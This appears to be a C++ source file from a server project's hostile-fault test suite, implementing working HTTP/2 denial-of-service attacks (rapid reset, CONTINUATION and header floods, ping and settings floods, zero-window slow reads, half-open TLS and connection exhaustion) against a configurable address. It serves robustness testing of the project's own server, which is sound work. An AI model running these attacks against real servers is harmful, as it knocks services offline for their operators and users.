// SPDX-License-Identifier: Apache-2.0
#include "tests/fault/hostile/http2_attack.h"

#include <signal.h>

#include <algorithm>
#include <iterator>
#include <limits>
#include <memory>
#include <string>
#include <thread>
#include <utility>
#include <vector>

#include "absl/strings/str_cat.h"
#include "absl/strings/str_join.h"
#include "absl/synchronization/notification.h"
#include "absl/time/clock.h"
#include "tests/fault/hostile/attack.h"
#include "tests/fault/hostile/http2_peer.h"

namespace ballast {
namespace {

constexpr size_t kFrameBytes = 16384;
// Pause between two attempts of a connection that the server ended.
constexpr absl::Duration kPause = absl::Milliseconds(20);

// Bytes sent once per connection, and bytes sent repeatedly.
struct Script {
  // The client's settings, and whether it acknowledges the server's before it continues.
  absl::string_view settings;
  bool acknowledges = true;
  std::string opening;
  // Returns the next `frames_in_next` frames. Streams have odd numbers that rise.
  virtual std::string Next() = 0;
  uint64_t frames_in_next = 1;
  // After this many the connection stays open and sends nothing more.
  uint64_t most_frames = std::numeric_limits<uint64_t>::max();
  bool hears = true;
  virtual ~Script() = default;

 protected:
  uint32_t NextStream() { return stream_ += 2; }

 private:
  uint32_t stream_ = uint32_t(-1);
};

// Settings that leave no room for a response: SETTINGS_INITIAL_WINDOW_SIZE of 0.
constexpr absl::string_view kNoWindow("\0\4\0\0\0\0", 6);

// One complete call.
std::string EncodeCall(const Http2AttackOptions& options, uint32_t stream) {
  return absl::StrCat(
      EncodeHttp2Frame(Http2Frame::kHeaders, kHttp2EndHeaders, stream, EncodeGrpcHeaders(options.path, options.token)),
      EncodeHttp2Frame(Http2Frame::kData, kHttp2EndStream, stream, EncodeGrpcMessage(options.request)));
}

class UnfinishedHeaders : public Script {
 public:
  UnfinishedHeaders() {
    opening = EncodeHttp2Frame(Http2Frame::kHeaders, 0, NextStream(), EncodeUnfinishedHeader(1u << 30));
  }
  std::string Next() override {
    return EncodeHttp2Frame(Http2Frame::kContinuation, 0, 1, std::string(kFrameBytes, 'a'));
  }
};

class EndlessContinuation : public Script {
 public:
  EndlessContinuation() {
    const std::string header("\0\1a\1b", 5);
    for (size_t i = 0; i < kFrameBytes / header.size(); ++i) headers_ += header;
    opening = EncodeHttp2Frame(Http2Frame::kHeaders, 0, NextStream(), header);
    frames_in_next = 2;
  }
  std::string Next() override {
    return absl::StrCat(EncodeHttp2Frame(Http2Frame::kContinuation, 0, 1, headers_),
                        EncodeHttp2Frame(Http2Frame::kContinuation, 0, 1, ""));
  }

 private:
  std::string headers_;
};

class RapidReset : public Script {
 public:
  explicit RapidReset(const Http2AttackOptions& options) : headers_(EncodeGrpcHeaders(options.path, options.token)) {
    frames_in_next = 2 * kCalls;
  }
  std::string Next() override {
    std::string frames;
    for (uint64_t i = 0; i < kCalls; ++i) {
      const uint32_t stream = NextStream();
      absl::StrAppend(&frames, EncodeHttp2Frame(Http2Frame::kHeaders, kHttp2EndHeaders, stream, headers_),
                      EncodeHttp2Frame(Http2Frame::kResetStream, 0, stream, absl::string_view("\0\0\0\x08", 4)));
    }
    return frames;
  }

 private:
  static constexpr uint64_t kCalls = 100;
  const std::string headers_;
};

// Repeats the same small frame.
class Flood : public Script {
 public:
  Flood(Http2Frame type, absl::string_view payload, bool hears_answers) {
    hears = hears_answers;
    frames_in_next = 1000;
    const std::string frame = EncodeHttp2Frame(type, 0, 0, payload);
    for (uint64_t i = 0; i < frames_in_next; ++i) frames_ += frame;
  }
  std::string Next() override { return frames_; }

 private:
  std::string frames_;
};

class SlowReader : public Script {
 public:
  explicit SlowReader(const Http2AttackOptions& options) : options_(options) {
    settings = kNoWindow;
    frames_in_next = 2;
    most_frames = 2 * kCalls;
  }
  std::string Next() override { return EncodeCall(options_, NextStream()); }

 private:
  // Fewer than a server allows by default.
  static constexpr uint64_t kCalls = 60;
  const Http2AttackOptions& options_;
};

class UnacknowledgedCalls : public Script {
 public:
  explicit UnacknowledgedCalls(const Http2AttackOptions& options) : options_(options) {
    settings = kNoWindow;
    acknowledges = false;
    frames_in_next = 2;
  }
  std::string Next() override { return EncodeCall(options_, NextStream()); }

 private:
  const Http2AttackOptions& options_;
};

std::unique_ptr<Script> MakeScript(const Http2AttackOptions& options) {
  switch (options.attack) {
    case Http2Attack::kUnfinishedHeaders:
      return std::make_unique<UnfinishedHeaders>();
    case Http2Attack::kEndlessContinuation:
      return std::make_unique<EndlessContinuation>();
    case Http2Attack::kRapidReset:
      return std::make_unique<RapidReset>(options);
    case Http2Attack::kPingFlood:
      return std::make_unique<Flood>(Http2Frame::kPing, "hostile!", /*hears_answers=*/true);
    case Http2Attack::kSettingsFlood:
      return std::make_unique<Flood>(Http2Frame::kSettings, "", /*hears_answers=*/false);
    case Http2Attack::kSlowReader:
      return std::make_unique<SlowReader>(options);
    case Http2Attack::kUnacknowledgedCalls:
      return std::make_unique<UnacknowledgedCalls>(options);
    case Http2Attack::kHalfOpenTls:
    case Http2Attack::kManyConnections:
      break;
  }
  return nullptr;
}

// Sends what precedes the attack.
absl::Status Open(Http2Peer& peer, const Script& script) {
  absl::Status status =
      peer.Send(absl::StrCat(kHttp2Preface, EncodeHttp2Frame(Http2Frame::kSettings, 0, 0, script.settings)));
  if (script.acknowledges) {
    if (status.ok()) status = peer.AwaitWord();
    if (status.ok()) status = peer.Send(EncodeHttp2Frame(Http2Frame::kSettings, kHttp2Acknowledges, 0, ""));
  }
  if (status.ok()) status = peer.Send(script.opening);
  return status;
}

// Attacks over one connection at a time and counts the results. Returns the first error that prevents attacks.
absl::Status AttackConnection(const Http2AttackOptions& options, absl::Time end, Http2AttackCounts& counts) {
  YieldThreadToOthers();
  // OpenSSL writes to sockets that the server has closed.
  sigset_t broken_pipe;
  sigemptyset(&broken_pipe);
  sigaddset(&broken_pipe, SIGPIPE);
  pthread_sigmask(SIG_BLOCK, &broken_pipe, nullptr);
  const TlsFiles* const tls = options.tls.has_value() ? &*options.tls : nullptr;
  const absl::Notification never;
  while (absl::Now() < end) {
    auto peer = Http2Peer::Connect(options.address, tls, end);
    if (absl::IsInvalidArgument(peer.status())) return peer.status();
    if (!peer.ok()) {
      ++counts.refused;
      never.WaitForNotificationWithTimeout(kPause);
      continue;
    }
    ++counts.connections;
    const std::unique_ptr<Script> script = MakeScript(options);
    (*peer)->SetHears(script->hears);
    uint64_t sent = 0;
    absl::Status status = Open(**peer, *script);
    for (uint64_t frames = 0; status.ok() && sent < options.bytes_each && frames < script->most_frames;
         frames += script->frames_in_next) {
      const std::string next = script->Next();
      status = (*peer)->Send(next);
      sent += next.size();
      counts.frames += script->frames_in_next;
    }
    counts.bytes += sent;
    if (status.ok()) status = (*peer)->AwaitEnd().ok() ? absl::UnavailableError("ended") : absl::OkStatus();
    if (absl::IsUnavailable(status)) {
      ++counts.cut;
      never.WaitForNotificationWithTimeout(kPause);
    }
  }
  return absl::OkStatus();
}

// Opens connections that send `greeting` and then nothing; reopens those that the server ends.
absl::Status HoldConnections(const Http2AttackOptions& options, absl::string_view greeting, absl::Time end,
                             Http2AttackCounts& counts) {
  std::vector<std::unique_ptr<Http2Peer>> peers;
  while (absl::Now() < end && counts.connections < options.connections) {
    // A listener with a full queue does not respond; the next connection must not wait for it until the end.
    auto peer = Http2Peer::Connect(options.address, nullptr, std::min(end, absl::Now() + absl::Milliseconds(200)));
    if (absl::IsInvalidArgument(peer.status())) return peer.status();
    ++counts.connections;
    absl::Status status = peer.status();
    if (status.ok()) status = (*peer)->Send(greeting);
    counts.bytes += greeting.size();
    if (status.ok()) {
      peers.push_back(*std::move(peer));
    } else {
      ++counts.refused;
    }
  }
  const absl::Notification never;
  never.WaitForNotificationWithTimeout(end - absl::Now());
  for (const std::unique_ptr<Http2Peer>& peer : peers) counts.cut += peer->AwaitEnd().ok() ? 1 : 0;
  return absl::OkStatus();
}

}  // namespace

const std::vector<std::string>& Http2AttackNames() {
  static const auto& names = *new std::vector<std::string>{
      "unfinished_headers", "endless_continuation", "rapid_reset", "ping_flood",          "settings_flood",
      "half_open_tls",      "many_connections",     "slow_reader", "unacknowledged_calls"};
  return names;
}

absl::string_view NameOf(Http2Attack attack) { return Http2AttackNames()[static_cast<size_t>(attack)]; }

absl::StatusOr<Http2Attack> ParseHttp2Attack(absl::string_view name) {
  const std::vector<std::string>& names = Http2AttackNames();
  const auto found = std::find(names.begin(), names.end(), name);
  if (found != names.end()) return static_cast<Http2Attack>(std::distance(names.begin(), found));
  return absl::InvalidArgumentError(
      absl::StrCat("attack: got \"", name, "\", want one of ", absl::StrJoin(names, ", ")));
}

absl::StatusOr<Http2AttackCounts> RunHttp2Attack(const Http2AttackOptions& options) {
  const absl::Time end = absl::Now() + options.time;
  Http2AttackCounts all;
  // The header of a TLS record of 512 bytes, and the start of a ClientHello.
  constexpr absl::string_view kHalfHello("\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03", 11);
  if (options.attack == Http2Attack::kHalfOpenTls || options.attack == Http2Attack::kManyConnections) {
    const bool half = options.attack == Http2Attack::kHalfOpenTls;
    if (absl::Status status = HoldConnections(options, half ? kHalfHello : "", end, all); !status.ok()) return status;
    return all;
  }
  std::vector<Http2AttackCounts> counts(options.connections);
  std::vector<absl::Status> ends(options.connections);
  std::vector<std::thread> threads;
  for (uint32_t i = 0; i < options.connections; ++i) {
    threads.emplace_back([&, i] { ends[i] = AttackConnection(options, end, counts[i]); });
  }
  for (std::thread& thread : threads) thread.join();
  for (uint32_t i = 0; i < options.connections; ++i) {
    if (!ends[i].ok()) return ends[i];
    all.connections += counts[i].connections;
    all.refused += counts[i].refused;
    all.cut += counts[i].cut;
    all.frames += counts[i].frames;
    all.bytes += counts[i].bytes;
  }
  return all;
}

}  // namespace ballast
